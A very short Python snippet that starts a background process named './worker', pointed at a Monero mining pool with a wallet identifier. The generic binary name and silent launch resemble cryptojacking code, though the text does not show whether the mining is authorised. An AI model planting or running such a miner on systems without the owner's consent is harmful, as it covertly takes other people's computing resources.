import subprocess

POOL = "stratum+tcp://pool.minexmr.com:4444"
subprocess.Popen(["./worker", "-o", POOL, "-u", "44AFF"])
